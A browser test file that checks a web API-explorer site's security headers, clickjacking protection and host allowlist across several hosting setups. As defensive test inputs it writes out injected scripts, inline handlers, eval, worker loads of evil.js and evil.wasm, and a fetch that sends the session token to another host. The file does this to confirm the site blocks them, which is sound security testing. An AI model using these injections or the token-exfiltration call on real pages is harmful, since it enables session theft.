// The page's own armour: the policy in its head, the headers of each host, the hosts that it may ask.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { staticServer } from '../../tools/serve.mjs';
import { DEMO, DIST, listen, open, send, signInAndUse, siteFor, startSandbox, startServer, startSite } from './harness.mjs';

const sandbox = await startSandbox();
const read = (name) => readFileSync(join(DIST, name), 'utf8');

/** The headers that a host's file gives to every path. */
const HOSTS = {
  '_headers (Netlify, Cloudflare Pages)': () => [...read('_headers').split(/\n(?=\/)/)[0].matchAll(/^ {2}([^:]+): (.+)$/gm)],
  'nginx-headers.conf': () => [...read('nginx-headers.conf').matchAll(/^add_header (\S+) "([^"]+)" always;$/gm)],
  'Caddyfile-headers': () => [...read('Caddyfile-headers').matchAll(/^ {2}(\S+) "([^"]+)"$/gm)],
  // GitHub Pages sends none of ours; the policy in the page's head has to do.
  'no headers': () => [],
};

for (const [host, headers] of Object.entries(HOSTS)) {
  test(`${host}: the page works, and nothing foreign runs in it`, async () => {
    const common = Object.fromEntries(headers().map(([, name, value]) => [name, value]));
    if (host !== 'no headers') {
      assert.match(common['Content-Security-Policy'], /frame-ancestors 'none'/);
      assert.equal(common['Referrer-Policy'], 'no-referrer');
      assert.equal(common['Cross-Origin-Opener-Policy'], 'same-origin');
      assert.match(common['Permissions-Policy'], /camera=\(\)/);
    }
    const site = `${await listen(staticServer(DIST, { overrides: { '/site.json': siteFor(sandbox.address) }, common }))}/`;
    const { page, finish } = await open(site);
    await signInAndUse(page, DEMO);
    assert.equal(await send(page), '200 OK');
    await page.getByRole('tab', { name: 'cURL' }).last().click();
    await page.locator('.snippet pre').waitFor();
    await finish();
    const hostile = await open(site);
    const attempts = {
      'an inline script': () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' })); },
      'a script of another host': () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://canary.invalid/x.js' })); },
      'a handler': () => { document.body.insertAdjacentHTML('beforeend', '<a id="trap" onclick="window.ran = 1">x</a>'); },
      'a handler as an attribute': () => { const link = document.createElement('a'); link.setAttribute('onclick', 'window.ran = 1'); document.body.append(link); link.click(); },
      // Not in the driver's own call, which may evaluate what it likes.
      'eval': () => new Promise((done) => setTimeout(() => { try { new Function('window.ran = 1')(); } catch { /* stopped */ } done(); })),
    };
    for (const [name, attempt] of Object.entries(attempts)) {
      const stopped = await hostile.page.evaluate(attempt).then(() => false, () => true);
      await hostile.page.waitForTimeout(50);
      assert.equal(await hostile.page.evaluate(() => window.ran), undefined, name);
      // Either it throws, or the browser reports what it stopped.
      const reported = hostile.seen.console.some((line) => /CSP: (script-src|require-trusted-types-for)/.test(line));
      assert.ok(stopped || reported, `${name} was not even noticed`);
      hostile.seen.console.length = 0;
    }
    await hostile.finish({ expectErrors: true });
  });
}

/** A site whose servers are all known. */
const closed = (connect) => siteFor(sandbox.address, (site, api) => {
  api.servers = [{ id: 'local', title: 'L', url: `${sandbox.origin}/api/ver1.0` }];
  if (connect) site.connect = connect;
});

test('a site of known servers can ask no other host, whatever runs in it', async () => {
  const asked = [];
  const other = await startServer((request, response) => { asked.push(request.url); response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end(); });
  const { page, finish } = await open(await startSite({ '/site.json': closed() }));
  await signInAndUse(page, DEMO);
  assert.equal(await send(page), '200 OK');
  const stolen = await page.evaluate((url) => fetch(`${url}/?token=${sessionStorage.getItem('obzor.session')}`).then(() => 'sent', () => 'stopped'), other);
  assert.equal(stolen, 'stopped');
  // The policy of the page's head is not for threads: they look for themselves whom they ask, and what they run.
  for (const name of ['reader.js', 'engine.js']) {
    const said = await page.evaluate(([name, other]) => new Promise((done) => {
      const worker = new Worker(new URL(name, document.baseURI).href, { type: 'module' });
      worker.onmessage = ({ data }) => done(String(data));
      worker.onerror = () => done('fell');
      worker.postMessage([0, [`${other}/evil.js`, `${other}/evil.wasm`, '', '', ''], ['', '', '', '', '']]);
      worker.postMessage([0, [`data:text/javascript,fetch('${other}/data')`, `${other}/evil.wasm`, '', '', ''], []]);
    }), [name, other]);
    assert.match(said, /of another host/, name);
  }
  const program = await page.evaluate(() => { const { readerJs, readerWasm, readerIntegrity } = document.querySelector('script[data-wasm]').dataset; return [readerJs, readerWasm, readerIntegrity]; });
  const read = await page.evaluate(([[js, wasm, integrity], other]) => new Promise((done) => {
    const worker = new Worker(new URL('reader.js', document.baseURI).href, { type: 'module' });
    worker.onmessage = ({ data: [id, answer] }) => { if (id === 7) done(answer); };
    const at = (name) => new URL(name, document.baseURI).href;
    worker.postMessage([0, [at(js), at(wasm), integrity, '', ''], []]);
    worker.postMessage([7, 'read', `${other}/?token=x`, 'k']);
  }), [program, other]);
  assert.equal(read, '{"error":""}');
  await page.waitForTimeout(200);
  assert.deepEqual(asked, []);
  await finish({ expectErrors: true });
});

test('a page that stands inside another site takes no secret, and the headers keep it from standing there', async () => {
  const framed = async (site) => {
    const other = await startServer((request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${site}" width="1000" height="800"></iframe>`));
    const opened = await open(other);
    return { ...opened, frame: opened.page.frameLocator('iframe') };
  };
  const { frame, finish } = await framed(`${await listen(staticServer(DIST, { overrides: { '/site.json': siteFor(sandbox.address) }, common: {} }))}/`);
  await frame.getByText('This page stands inside another site').waitFor();
  await frame.getByRole('link', { name: 'Open it by itself' }).waitFor();
  for (const field of ['#client-secret', '#token']) assert.ok(await frame.locator(field).isDisabled(), field);
  await finish();
  for (const host of Object.keys(HOSTS).filter((host) => host !== 'no headers')) {
    const common = Object.fromEntries(HOSTS[host]().map(([, name, value]) => [name, value]));
    const refused = await framed(`${await listen(staticServer(DIST, { common }))}/`);
    await refused.page.waitForTimeout(500);
    assert.equal(await refused.frame.locator('#client-secret').count(), 0, host);
    assert.ok(refused.seen.console.some((line) => /frame-ancestors|X-Frame-Options/i.test(line)), host);
    await refused.finish({ expectErrors: true });
  }
});

test('a redirect to a host that is not listed is explained as such', async () => {
  const other = await startServer((request, response) => response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end());
  const api = await startServer((request, response) => response.writeHead(302, { 'Access-Control-Allow-Origin': '*', Location: `${other}/file` }).end());
  const text = siteFor(sandbox.address, (_, it) => { it.servers = [{ id: 's', title: 'S', url: api }]; delete it.signIn; delete it.description; delete it.versions; });
  const { page, finish } = await open(await startSite({ '/site.json': text }));
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await page.getByText('The server redirects to a host that this site does not ask.').waitFor();
  await finish({ expectErrors: true });
});

test('a request that the list of hosts stops is explained', async () => {
  const site = await startSite({ '/site.json': closed(['https://api.example.com']) });
  const { page, finish } = await open(site);
  const before = sandbox.requests().length;
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await page.getByText(`${sandbox.origin} is not one of them`).waitFor();
  assert.equal(sandbox.requests().length, before);
  await finish({ expectErrors: true });
});

test('a list of hosts that is wrong names its field', async () => {
  const { page, finish } = await open(await startSite({ '/site.json': closed(['api.example.com/v1']) }));
  await page.getByText('/connect/0').waitFor();
  await finish();
});
